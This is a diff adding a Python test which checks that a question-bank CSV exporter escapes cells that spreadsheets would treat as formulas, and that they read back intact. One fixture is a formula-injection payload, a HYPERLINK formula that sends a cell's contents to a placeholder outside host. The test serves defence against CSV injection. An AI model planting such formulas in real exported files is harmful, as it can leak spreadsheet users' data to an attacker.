@@ -290,3 +290,22 @@ def test_csv_round_trip_of_symposium_bank(bank_items):
     out = io.StringIO()
     csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
     assert parse_csv(out.getvalue().encode("utf-8"), "bank.csv") == bank_items
+
+
+def test_csv_cells_that_look_like_formulas_are_guarded_and_read_back():
+    """A stem, option or answer starting with = + - @ is written with a leading ' (a spreadsheet shows
+    it as text, runs nothing) and reads back as it was; a ' before anything else is kept."""
+    items = [
+        ItemRecord("f1", "single_choice", '=HYPERLINK("http://x.example/?a="&A1,"click")', "-1 is wrong.",
+                   options=[OptionRecord("@SUM(1+1)", True), OptionRecord("+1"), OptionRecord("-2")]),
+        ItemRecord("f2", "short_answer", "'quoted' stays", "E.", answers=[["=x", "'y"]]),
+    ]
+    data = write_csv(items)
+    rows = data.decode("utf-8-sig").split("\r\n")
+    assert rows[1].startswith("""f1,single_choice,"'=HYPERLINK(""") and ",'@SUM(1+1) | +1 | -2," in rows[1]
+    assert ",'-1 is wrong.," in rows[1]
+    assert rows[2].startswith("f2,short_answer,'quoted' stays,,,'=x | 'y,")
+    assert parse_csv(data) == [
+        ItemRecord("f1", "single_choice", '=HYPERLINK("http://x.example/?a="&A1,"click")', "-1 is wrong.",
+                   options=[OptionRecord("@SUM(1+1)", True), OptionRecord("+1"), OptionRecord("-2")]),
+        ItemRecord("f2", "short_answer", "'quoted' stays", "E.", answers=[["=x", "'y"]])]
